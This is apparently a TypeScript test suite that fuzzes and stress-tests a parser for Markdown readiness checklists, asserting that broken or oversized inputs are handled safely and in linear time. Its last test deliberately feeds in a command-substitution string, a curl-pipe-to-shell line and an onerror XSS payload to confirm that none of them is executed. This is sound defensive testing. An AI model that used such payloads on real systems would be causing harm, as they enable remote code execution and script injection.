import fc from 'fast-check';
import { readdirSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import type { Checklist } from './checklist.ts';
import { checklistJson } from './json.ts';
import { readChecklist } from './read-checklist.ts';

const folder = new URL('fixtures/', import.meta.url);
const sources = readdirSync(folder)
  .filter((name) => name.endsWith('.checklist'))
  .map((name) => readFileSync(new URL(name, folder)));
/** READINESS_MUTATIONS=10000 reads that many broken documents instead of a few. */
const RUNS = Number(process.env['READINESS_MUTATIONS'] ?? 600);

const PIECES = [
  '- [ ] ',
  '[x]',
  '```',
  '<!--',
  '-->',
  '\n\n',
  '\t',
  '> ',
  '|',
  '|-|',
  '---\n',
  '# ',
  '**',
  '`',
  '[',
  '](',
  '<div>',
  '<input type="checkbox">',
  '\u0000',
  '\r',
  '≥',
  '< 5 ms',
  '99.9%',
  '\uFEFF',
  '\uD800',
  '🔥',
  '&lt;',
  '\\',
  '(current: ',
  '  '.repeat(40),
];

type Edit = { kind: 'insert' | 'delete' | 'repeat' | 'byte'; at: number; size: number; piece: string; value: number };
const edit = fc.record<Edit>({
  kind: fc.constantFrom('insert', 'delete', 'repeat', 'byte'),
  at: fc.double({ min: 0, max: 1, noNaN: true }),
  size: fc.integer({ min: 1, max: 200 }),
  piece: fc.constantFrom(...PIECES),
  value: fc.integer({ min: 0, max: 255 }),
});

function mutated(source: Uint8Array, { kind, at, size, piece, value }: Edit): Uint8Array {
  const from = Math.floor(at * source.length);
  const to = Math.min(source.length, from + size);
  if (kind === 'byte') return Uint8Array.from(source, (byte, index) => (index === from ? value : byte));
  const middle =
    kind === 'insert'
      ? Buffer.from(piece)
      : kind === 'repeat'
        ? Buffer.concat(Array.from({ length: 8 }, () => source.subarray(from, to)))
        : Buffer.alloc(0);
  return Buffer.concat([source.subarray(0, from), middle, source.subarray(kind === 'insert' ? from : to)]);
}

/** What holds for every document, however broken. */
function expectSound({ items, criteria, ...rest }: Checklist, source: Uint8Array): void {
  const ids = new Set(items.map(({ id }) => id));
  expect(ids.size).toBe(items.length);
  for (const item of items) {
    expect(item.box.from).toBeLessThanOrEqual(item.box.to);
    expect(item.box.to).toBeLessThanOrEqual(source.length);
    expect(item.parent === undefined || ids.has(item.parent)).toBe(true);
    expect(item.children.every((child) => ids.has(child))).toBe(true);
  }
  for (const { thresholds } of [...items, ...criteria]) {
    for (const { value, op, text } of thresholds) expect(Number.isFinite(value) && op !== undefined && text.length < 5_000).toBe(true);
  }
  expect(rest.sha256).toMatch(/^[0-9a-f]{64}$/);
}

test('no document, however broken, makes the reader fail, and what it gives is always sound', () => {
  fc.assert(
    fc.property(fc.constantFrom(...sources), fc.array(edit, { minLength: 1, maxLength: 12 }), (source, edits) => {
      const broken = edits.reduce(mutated, source as Uint8Array);
      const checklist = readChecklist(broken, 'broken.md');
      expectSound(checklist, broken);
      expect(JSON.parse(JSON.stringify(checklistJson(checklist)))).toHaveProperty('items');
    }),
    { numRuns: RUNS },
  );
}, 3_600_000);

test('any bytes at all give a checklist', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 2_000 }), (bytes) => expectSound(readChecklist(bytes, 'noise'), bytes)),
    { numRuns: RUNS },
  );
}, 3_600_000);

const read = (text: string): Checklist => readChecklist(Buffer.from(text), 'hostile.md');

test('lists fifty deep keep every level', () => {
  const { items } = read(Array.from({ length: 50 }, (_, at) => `${'  '.repeat(at)}- [ ] level ${at}`).join('\n'));
  expect(items.length).toBe(50);
  items.forEach((item, at) => expect(item.parent).toBe(items[at - 1]?.id));
});

test('long lines and thousands of marks of every kind are read in time that grows with their length only', () => {
  for (const piece of [
    '[',
    '[a](',
    '*a_',
    '**a ',
    '`a``b',
    '<',
    '<a ',
    '(current ',
    '_',
    '9',
    'less than 5 ms and ',
    '🔥',
    'âœ…',
    ':',
    '&#',
    '> ',
    '- ',
    '| ',
    '`a=1` ',
    '100 % complete ',
    'at least 5 x, held ',
    '**must** ',
  ]) {
    const { items } = read(`- [ ] ${piece.repeat(100_000)}`);
    expect(items.length).toBe(1);
  }
});

test('long prefaces that look like legends are read in time that grows with their length only', () => {
  for (const piece of [
    '= critical, ',
    '(C) ',
    '🔴 P0 ',
    'unless marked (a, b, c) ',
    'items in bold ',
    'the rest ',
    'Class A ',
    '> 1.2.3.4.',
    'red ',
    'If a line has a ! ',
    'a ! in front of a line ',
  ])
    for (const text of [
      `${piece.repeat(60)}\n`.repeat(1_000),
      `${piece.repeat(15)}\n\n`.repeat(2_000),
      `# ${piece.repeat(60)}\n\n`.repeat(500),
    ])
      expect(read(`# Title\n\n${text}\n- [ ] a\n`).items.length).toBe(1);
});

test('a document of 50,000 lines keeps every box', () => {
  const lines = Array.from({ length: 50_000 }, (_, at) => (at % 25 === 0 ? `## Part ${at}` : `- [ ] Check ${at}: p95 under ${at} ms`));
  expect(read(lines.join('\n')).items.length).toBe(48_000);
});

test('code that never ends is told with the boxes that it swallows', () => {
  const { items, notUnderstood } = read('- [ ] read\n\n```sh\n- [ ] swallowed\n');
  expect(items.length).toBe(1);
  expect(notUnderstood).toEqual([expect.objectContaining({ kind: 'unclosed_code', line: 3 })]);
});

test('nothing in a document is executed or fetched: commands and addresses come out as the text they are', () => {
  const { items } = read(
    '- [ ] Wipe `$(touch /tmp/never)`\n  ```sh\n  curl https://example.invalid | sh # should print ok\n  ```\n- [ ] <img src=x onerror=alert(1)> picture',
  );
  expect(items[0]).toMatchObject({
    title: 'Wipe $(touch /tmp/never)',
    hints: [{ language: 'sh', text: 'curl https://example.invalid | sh # should print ok', expects: ['should print ok'] }],
  });
  expect(items[1]!.title).toBe('picture');
});
